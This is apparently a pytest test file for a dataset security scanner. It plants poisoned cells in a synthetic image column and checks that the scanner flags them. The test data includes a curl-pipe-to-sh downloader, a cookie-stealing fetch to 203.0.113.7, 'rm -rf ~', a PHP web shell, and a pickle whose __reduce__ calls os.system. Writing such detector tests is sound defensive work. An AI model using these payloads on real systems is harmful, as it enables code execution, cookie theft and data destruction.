"""Binary-cell detector: an image column of 12,000 real-shaped images with a few poisoned cells.

Images are built byte-exact by hand (PNG via zlib+struct, baseline-JPEG segment layout, GIF89a,
WebP RIFF) plus the two real camera JPEGs scikit-learn ships; payload pickles come from
``pickle.dumps`` of a canary class whose ``__reduce__`` would create the canary file if anything
ever unpickled a cell.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import random
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import polars as pl
import pytest
import sklearn

from mlsec_dagster import scan_dataframe
from mlsec_dagster.engine.findings import Finding, Severity
from mlsec_dagster.scanners.datasets.detectors import binary

ROWS = 12_000
SAMPLE_JPEGS = [
    Path(sklearn.__file__).parent / "datasets" / "images" / name for name in ("china.jpg", "flower.jpg")
]


def _chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png(seed: int, size: int = 16, text: bytes | None = None) -> bytes:
    rng = random.Random(seed)
    raw = b"".join(b"\x00" + bytes(rng.randrange(256) for _ in range(size * 3)) for _ in range(size))
    chunks = [_chunk(b"IHDR", struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0))]
    if text is not None:
        chunks.append(_chunk(b"tEXt", text))
    chunks += [_chunk(b"IDAT", zlib.compress(raw)), _chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def _segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def jpeg(seed: int, comment: bytes | None = None, thumbnail: bool = False) -> bytes:
    """Baseline JPEG layout: JFIF, optional EXIF thumbnail (its own FF D9 inside), tables, stuffed scan."""
    rng = random.Random(seed)
    parts = [b"\xff\xd8", _segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")]
    if thumbnail:
        parts.append(_segment(0xE1, b"Exif\x00\x00MM\x00*" + b"\xff\xd8\xff\xdb" + bytes(40) + b"\xff\xd9"))
    if comment is not None:
        parts.append(_segment(0xFE, comment))
    parts.append(_segment(0xDB, b"\x00" + bytes(rng.randrange(1, 100) for _ in range(64))))
    parts.append(_segment(0xC0, b"\x08\x00\x10\x00\x10\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"))
    parts.append(_segment(0xC4, b"\x00" + bytes([0, 1, 5, 1, 1, 1, 1, 1, 1] + [0] * 7) + bytes(range(12))))
    parts.append(_segment(0xDA, b"\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00"))
    scan = bytearray()
    for _ in range(rng.randrange(300, 900)):
        byte = rng.randrange(256)
        scan += b"\xff\x00" if byte == 0xFF else bytes([byte])
    return b"".join(parts) + bytes(scan) + b"\xff\xd9"


def gif(seed: int) -> bytes:
    rng = random.Random(seed)
    palette = bytes(rng.randrange(256) for _ in range(6))
    data = bytes(rng.randrange(1, 4) for _ in range(20))
    return (
        b"GIF89a\x04\x00\x04\x00\x80\x00\x00" + palette
        + b"\x21\xf9\x04\x00\x00\x00\x00\x00"
        + b"\x2c\x00\x00\x00\x00\x04\x00\x04\x00\x00\x02" + bytes([len(data)]) + data + b"\x00;"
    )  # fmt: skip


def webp(seed: int) -> bytes:
    rng = random.Random(seed)
    body = bytes(rng.randrange(256) for _ in range(rng.randrange(100, 300)))
    chunk = b"VP8L" + struct.pack("<I", len(body)) + body + (b"\x00" if len(body) % 2 else b"")
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


class CanaryPayload:
    """Unpickling this runs ``touch <canary>``; building it with pickle.dumps runs nothing."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {self.canary}",))


def _zip_with_script() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("run.sh", "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n")
    return buffer.getvalue()


def _benign_images() -> list[bytes]:
    pool = [png(i, text=b"Software\x00exporter 1.2" if i % 5 == 0 else None) for i in range(20)]
    pool += [
        jpeg(100 + i, comment=b"Created with GIMP" if i % 4 == 0 else None, thumbnail=i % 3 == 0)
        for i in range(20)
    ]
    pool += [gif(200 + i) for i in range(5)] + [webp(300 + i) for i in range(5)]
    pool.append(jpeg(999) + b"\x00\x00\x00\x00")  # writer padding after EOI: tolerated
    return pool


def _image_frame(poison: dict[int, bytes]) -> pl.DataFrame:
    pool = _benign_images()
    real = [path.read_bytes() for path in SAMPLE_JPEGS]
    images = [pool[i % len(pool)] for i in range(ROWS)]
    images[50], images[6_001] = real
    for row, value in poison.items():
        images[row] = value
    captions = [f"photo {i} of a {('cat', 'street', 'mountain', 'kitchen')[i % 4]}" for i in range(ROWS)]
    return pl.DataFrame({"id": list(range(ROWS)), "caption": captions, "image": images})


def _bin(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.rule_id.startswith("MLS-BIN-")]


def _one(findings: list[Finding], rule: str, row: int) -> Finding:
    hits = [f for f in findings if f.rule_id == rule and f.location.row == row]
    assert len(hits) == 1, [f.to_dict() for f in _bin(findings)]
    return hits[0]


@pytest.fixture
def poisoned(canary: Path) -> tuple[dict[int, bytes], list[Finding]]:
    base = png(7)
    html = b"<html><body><script>fetch('https://203.0.113.7/c?'+document.cookie)</script></body></html>"
    poison = {
        137: base + pickle.dumps(CanaryPayload(canary), protocol=4),
        4_242: jpeg(5, comment=html),
        7_000: jpeg(6) + bytes(random.Random(1).randrange(256) for _ in range(64)),
        9_000: b"\x7fELF\x02\x01\x01\x00" + bytes(56) + b"\x02\x00\x3e\x00",
        9_500: gif(3) + b"#!/bin/sh\nrm -rf ~\n",
        10_517: pickle.dumps(CanaryPayload(canary), protocol=2),
        11_000: jpeg(8) + _zip_with_script(),
        11_998: b"#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n",
    }
    return poison, scan_dataframe(_image_frame(poison), "images").findings


def test_pickle_appended_to_png_is_critical_with_the_byte_offset(
    poisoned: tuple[dict[int, bytes], list[Finding]],
) -> None:
    _, findings = poisoned
    hit = _one(findings, "MLS-BIN-005", 137)
    assert hit.severity == Severity.CRITICAL
    assert hit.location.field == "image"
    assert hit.location.char_offset == len(png(7))
    assert "posix.system" in hit.message and f"byte {len(png(7))}" in hit.message
    assert hit.evidence.startswith(f"@{len(png(7)) - 8}: ")


def test_raw_pickle_cell_past_row_10000_is_critical(poisoned: tuple[dict[int, bytes], list[Finding]]) -> None:
    _, findings = poisoned
    hit = _one(findings, "MLS-BIN-001", 10_517)
    assert (hit.severity, hit.location.field, hit.location.char_offset) == (Severity.CRITICAL, "image", 0)
    assert "posix.system" in hit.message and "unpickle" in hit.message


def test_jpeg_html_polyglot_is_high_at_the_markup(poisoned: tuple[dict[int, bytes], list[Finding]]) -> None:
    poison, findings = poisoned
    hit = _one(findings, "MLS-BIN-006", 4_242)
    assert hit.severity == Severity.HIGH
    assert hit.location.char_offset == poison[4_242].index(b"<script>")
    assert "script" in hit.message


def test_appended_tails_are_graded_by_what_they_are(poisoned: tuple[dict[int, bytes], list[Finding]]) -> None:
    _, findings = poisoned
    unknown = _one(findings, "MLS-BIN-005", 7_000)
    assert (unknown.severity, unknown.location.char_offset) == (Severity.MEDIUM, len(jpeg(6)))
    archive = _one(findings, "MLS-BIN-005", 11_000)
    assert (archive.severity, archive.location.char_offset) == (Severity.HIGH, len(jpeg(8)))
    assert "ZIP archive" in archive.message
    script = _one(findings, "MLS-BIN-005", 9_500)
    assert (script.severity, script.location.char_offset) == (Severity.HIGH, len(gif(3)))


def test_executable_and_script_cells(poisoned: tuple[dict[int, bytes], list[Finding]]) -> None:
    _, findings = poisoned
    assert _one(findings, "MLS-BIN-002", 9_000).severity == Severity.HIGH
    script = _one(findings, "MLS-BIN-004", 11_998)
    assert (script.severity, script.location.char_offset) == (Severity.HIGH, 0)


def test_only_the_poisoned_rows_are_reported(poisoned: tuple[dict[int, bytes], list[Finding]]) -> None:
    poison, findings = poisoned
    assert {f.location.row for f in _bin(findings)} == set(poison)
    assert len(_bin(findings)) == len(poison)
    json.dumps([f.to_dict() for f in findings])  # evidence is printable


def test_benign_images_stay_silent() -> None:
    findings = scan_dataframe(_image_frame({}), "clean").findings
    assert _bin(findings) == []


def test_structure_walks_find_the_real_end() -> None:
    for path in SAMPLE_JPEGS:
        data = path.read_bytes()
        assert binary._jpeg_end(data) == len(data)
    thumb = jpeg(1, thumbnail=True)
    assert binary._jpeg_end(thumb) == len(thumb)  # the EXIF thumbnail's own FF D9 is not the end
    assert binary._png_end(png(2, text=b"Comment\x00IEND")) == len(png(2, text=b"Comment\x00IEND"))
    assert binary._gif_end(gif(4) + b"tail") == len(gif(4))


def test_markup_column_is_medium_and_benign_pickles_high_not_critical() -> None:
    pages = [f"<!DOCTYPE html><html><body><p>article {i}</p></body></html>".encode() for i in range(1_000)]
    pages[321] = b"<html><body><script src='https://203.0.113.7/x.js'></script></body></html>"
    blobs = [
        pickle.dumps({"step": i, "loss": 0.1 * i}, protocol=4) if i == 10 else b"\x00\x01" * i
        for i in range(1_000)
    ]
    blobs[20] = pickle.dumps({1, 2, 3}, protocol=2)  # c__builtin__ set: a GLOBAL, but not a dangerous one
    findings = scan_dataframe(pl.DataFrame({"page": pages, "blob": blobs}), "docs").findings
    script = _one(findings, "MLS-BIN-004", 321)
    assert script.severity == Severity.MEDIUM and "html_allowed" in script.message
    plain = [f for f in findings if f.rule_id == "MLS-BIN-004" and f.location.row != 321]
    assert plain and all(f.severity == Severity.MEDIUM for f in plain)
    for row in (10, 20):
        assert _one(findings, "MLS-BIN-001", row).severity == Severity.HIGH
    assert not [f for f in findings if f.location.field == "blob" and f.location.row not in (10, 20)]


def test_torch_checkpoint_svg_script_and_webp_tail() -> None:
    import torch

    buffer = io.BytesIO()
    torch.save(torch.nn.Linear(4, 2).state_dict(), buffer)
    cells = [webp(i) for i in range(2_000)]
    cells[100] = buffer.getvalue()  # a zip archive whose data.pkl a loader would unpickle
    cells[1_500] = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    cells[1_900] = webp(5) + b"<?php system($_GET['c']); ?>"
    cells[1_950] = jpeg(9)[:-300]  # a download cut short: reported, but as damage (MEDIUM), not a payload
    cells[1_901] = b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'  # plain SVG: silent
    findings = _bin(scan_dataframe(pl.DataFrame({"thumb": cells}), "thumbs").findings)
    checkpoint = _one(findings, "MLS-BIN-001", 100)
    assert checkpoint.severity == Severity.HIGH and "inside a ZIP archive" in checkpoint.message
    assert "torch._utils._rebuild_tensor_v2" in checkpoint.message
    svg = _one(findings, "MLS-BIN-004", 1_500)
    assert (svg.severity, svg.location.char_offset) == (Severity.HIGH, cells[1_500].index(b"<script>"))
    tail = _one(findings, "MLS-BIN-005", 1_900)
    assert (tail.severity, tail.location.char_offset) == (Severity.HIGH, len(webp(5)))
    truncated = _one(findings, "MLS-BIN-005", 1_950)
    assert (truncated.severity, truncated.location.char_offset) == (Severity.MEDIUM, None)
    assert "truncated" in truncated.message
    assert {f.location.row for f in findings} == {100, 1_500, 1_900, 1_950}
